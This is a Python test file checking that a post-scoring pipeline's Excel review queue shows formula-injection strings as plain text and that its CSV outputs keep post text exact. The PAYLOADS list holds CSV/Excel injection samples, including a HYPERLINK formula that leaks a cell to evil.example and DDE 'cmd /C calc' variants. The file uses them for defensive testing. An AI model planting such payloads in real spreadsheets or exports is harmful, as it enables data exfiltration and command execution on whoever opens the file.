"""The files people open in Excel never run a post as a formula; the CSVs keep text exactly for programs."""

from __future__ import annotations

import json
import random
import zipfile
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from pipeline.fileio import XLSX_MAX_CELL
from pipeline.ingest.core import IngestOptions
from pipeline.scoring import ScoreOptions, score_collection

RECRUITMENT = (
    "Dicari admin online ke Kamboja gaji 15jt tiket ditanggung tanpa pengalaman WA 081377902265"
)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=1+1",
    "０８１２ =2+2",
]


def hostile_posts(path: Path) -> list[str]:
    rng = random.Random(19)
    texts = [payload + " " + RECRUITMENT for payload in PAYLOADS]
    texts += [
        rng.choice("=+-@")
        + "".join(rng.choice("ABC(1)!|'\"&") for _ in range(12))
        + " "
        + RECRUITMENT
        for _ in range(20)
    ]
    texts.append("=" + RECRUITMENT + " x" * 20_000)  # longer than an Excel cell holds
    texts.append("=bell\x07 and NUL-free controls\x0b " + RECRUITMENT)
    path.write_text(
        "".join(json.dumps({"post_id": f"h{n}", "text": t}) + "\n" for n, t in enumerate(texts)),
        encoding="utf-8",
    )
    return texts


def test_review_queue_xlsx_shows_formula_text_as_text_and_the_csvs_keep_it_exact(tmp_path, bundle):
    texts = hostile_posts(tmp_path / "posts.jsonl")
    out = tmp_path / "run"
    # Threshold 0 without the screen: every scored post is queued, so every payload reaches the workbook.
    report = score_collection(
        [tmp_path / "posts.jsonl"],
        out,
        bundle,
        IngestOptions(),
        ScoreOptions(threshold=0.0, jobs=1, use_screen=False),
    )
    assert report["counts"]["in_review_queue"] == report["counts"]["scored"] >= len(texts) - 2
    assert "review_queue.xlsx" in report["outputs"]

    with zipfile.ZipFile(out / "review_queue.xlsx") as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and all(
            b"<f>" not in archive.read(name) and b"<f " not in archive.read(name) for name in sheets
        )
    sheet = load_workbook(out / "review_queue.xlsx").active
    header = [cell.value for cell in sheet[1]]
    rows = [
        dict(zip(header, (cell for cell in line), strict=True))
        for line in sheet.iter_rows(min_row=2)
    ]
    assert len(rows) == report["counts"]["scored"]
    shown = {}
    for row in rows:
        assert row["text"].data_type == "s" and row["reasons"].data_type == "s"
        assert isinstance(row["score"].value, float)
        shown[row["post_id"].value] = row["text"].value

    queue = pd.read_csv(
        out / "review_queue.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    scored = pd.read_csv(out / "scored.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    exact = dict(zip(scored["post_id"], scored["text"], strict=True))
    assert (
        dict(zip(queue["post_id"], queue["text"], strict=True)) == exact
    )  # the machine files: exactly what was scored
    for post_id, text in exact.items():
        if len(text) > XLSX_MAX_CELL:
            assert shown[post_id] == text[: XLSX_MAX_CELL - 1] + "…"
        elif "\x07" in text or "\x0b" in text:
            assert shown[post_id] == text.replace("\x07", "").replace("\x0b", "")
        else:
            assert shown[post_id] == text
    assert sum(value.startswith(("=", "+", "-", "@")) for value in shown.values()) >= len(PAYLOADS)


def test_the_workbook_quotes_the_post_as_written_without_internal_tokens(tmp_path, bundle):
    posts = [
        "Lowongan CS online di K4mboja gaji 15jt/bulan, tiket ditanggung, japri WA 0813-7790-2265 umur 16 bisa",
        "Dicari admin ke negara K, gaji 1.5k USD, hub 0812 1111 2222",
    ]
    (tmp_path / "posts.jsonl").write_text(
        "".join(json.dumps({"post_id": f"w{n}", "text": t}) + "\n" for n, t in enumerate(posts)),
        encoding="utf-8",
    )
    out = tmp_path / "run"
    score_collection(
        [tmp_path / "posts.jsonl"],
        out,
        bundle,
        IngestOptions(),
        ScoreOptions(threshold=0.0, jobs=1),
    )
    machine = pd.read_csv(
        out / "review_queue.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    assert machine["reasons"].str.len().gt(0).all()
    sheet = load_workbook(out / "review_queue.xlsx").active
    header = [cell.value for cell in sheet[1]]
    reasons = [
        dict(zip(header, (cell.value for cell in line), strict=True))["reasons"]
        for line in sheet.iter_rows(min_row=2)
    ]
    assert len(reasons) == len(posts) and all(reasons)
    for text in reasons:
        assert not any(
            token in text
            for token in ("_num_", "_money_", "_phone_", "_url_", "_chatlink_", "_handle_")
        )
    # The machine file keeps the normalised evidence; the workbook quotes what the post says.
    assert not machine["reasons"].str.contains("K4mboja").any()
    assert any("K4mboja" in text for text in reasons)
